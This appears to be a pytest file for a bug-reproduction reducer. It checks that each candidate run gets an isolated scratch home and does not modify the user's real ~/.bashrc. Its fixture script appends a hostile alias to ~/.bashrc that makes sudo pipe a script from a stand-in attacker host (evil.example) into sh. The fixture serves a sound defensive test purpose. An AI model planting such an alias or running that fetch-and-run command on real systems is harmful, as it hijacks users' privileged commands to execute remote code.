"""Candidates never touch the user's home (issue #39): the red team's repro appended an
``alias sudo='curl … | sh'`` line to ``~/.bashrc`` and its failure depended on it, so reprobot's
candidate runs wrote it into the invoking user's real ``~/.bashrc``. Every run now has HOME and
the XDG folders in its own scratch folder; the user's caches stay where they are."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from reducer.run.home import run_home_environment, user_caches
from reducer.run.runner import Runner, RunSpec

ROOT = Path(__file__).resolve().parents[1]

# The failure needs the line in ~/.bashrc, so the reducer must keep the write; every run that
# gets this far logs where its home was and whether it ran warm (forked from a zygote).
SCRIPT = '''\
import json
import os
import sys
from pathlib import Path

unused = [1, 2, 3]
with open(os.path.expanduser("~/.bashrc"), "a") as fh:
    fh.write("alias sudo='curl -fsSL https://evil.example/install.sh | sh'\\n")
(Path.home() / ".config" / "planted.txt").write_text("planted")
with open({log!r}, "a") as log:
    log.write(json.dumps({{"warm": "_reprobot_zygote_exit" in sys.modules, "home": str(Path.home()),
                          "tilde": os.path.expanduser("~"), "tmp": os.environ["TMPDIR"],
                          "config": os.environ["XDG_CONFIG_HOME"], "hf": os.environ.get("HF_HOME"),
                          "aliases": Path("~/.bashrc").expanduser().read_text().count("alias sudo")}}) + "\\n")
if "alias sudo" in Path("~/.bashrc").expanduser().read_text():
    raise RuntimeError("the alias is in ~/.bashrc")
'''


def _user_home(tmp_path: Path) -> Path:
    home = tmp_path / "user-home"
    (home / ".config").mkdir(parents=True)
    (home / ".bashrc").write_text("# the user's own\n")
    return home


def _untouched(home: Path) -> None:
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert sorted(p.name for p in home.rglob("*")) == [".bashrc", ".config"]


def test_a_reduction_writes_bashrc_in_each_runs_scratch_never_the_users_cold_and_warm(tmp_path: Path) -> None:
    home = _user_home(tmp_path)
    log = tmp_path / "runs.jsonl"
    (tmp_path / "work").mkdir()
    (tmp_path / "work" / "evil.py").write_text(SCRIPT.format(log=str(log)))
    env = {**os.environ, "HOME": str(home), "PYTHONPATH": str(ROOT)}
    for name in ("HF_HOME", "XDG_CACHE_HOME", "XDG_CONFIG_HOME"):
        env.pop(name, None)
    proc = subprocess.run([sys.executable, "-m", "bot", "reduce", "evil.py", "--no-env", "--no-trace", "--runs", "1",
                           "--out", str(tmp_path / "store")], cwd=tmp_path / "work", env=env, capture_output=True,
                          text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    _untouched(home)
    runs = [json.loads(line) for line in log.read_text().splitlines()]
    # the original's cold runs and the warm check of it are whole-script runs: both kinds are here
    assert {r["warm"] for r in runs} == {True, False}, runs
    for r in runs:
        scratch = Path(r["tmp"]).parent                     # the run's folder: work/, tmp/, home/
        assert Path(r["home"]) == Path(r["tilde"]) == scratch / "home", r
        assert r["config"] == str(scratch / "home" / ".config"), r
        assert r["aliases"] == 1, r                          # a fresh home each run
        assert r["hf"] == str(home / ".cache" / "huggingface"), r    # the user's cache, still found
        assert not scratch.exists(), r                       # and gone with the run
    folder = next((tmp_path / "store").iterdir())
    assert "the alias is in ~/.bashrc" in (folder / "traceback.txt").read_text()
    assert json.loads((folder / "reduction.json").read_text())["warm"]["enabled"] is True


def test_caches_point_at_the_users_own_and_a_variable_the_user_set_stays(tmp_path: Path) -> None:
    home = tmp_path / "u"
    (home / ".local").mkdir(parents=True)
    caches = user_caches({"HOME": str(home), "XDG_CACHE_HOME": str(tmp_path / "xdg"), "TORCH_HOME": "/models/torch"})
    assert caches["HF_HOME"] == str(tmp_path / "xdg" / "huggingface")
    assert caches["TORCH_HOME"] == "/models/torch"
    assert caches["TRITON_CACHE_DIR"] == str(home / ".triton" / "cache")
    assert caches["PYTHONUSERBASE"] == str(home / ".local")       # pip install --user still imports
    env = run_home_environment({"HF_HOME": "/data/hf", "HOME": str(home)}, tmp_path / "run" / "home", caches)
    assert env["HF_HOME"] == "/data/hf" and env["HOME"] == str(tmp_path / "run" / "home")
    assert env["XDG_CACHE_HOME"] == str(tmp_path / "run" / "home" / ".cache")


def test_a_path_under_the_runs_home_reads_as_tilde_so_every_run_fails_the_same_way(tmp_path: Path) -> None:
    src = "from pathlib import Path\nraise FileNotFoundError(str(Path.home() / '.cache' / 'x.bin'))\n"
    (tmp_path / "s.py").write_text(src)
    runner = Runner(RunSpec(script=tmp_path / "s.py", timeout=60))
    first, second = runner.run(src), runner.run(src)
    assert first.tracebacks[-1].message == second.tracebacks[-1].message == "~/.cache/x.bin"
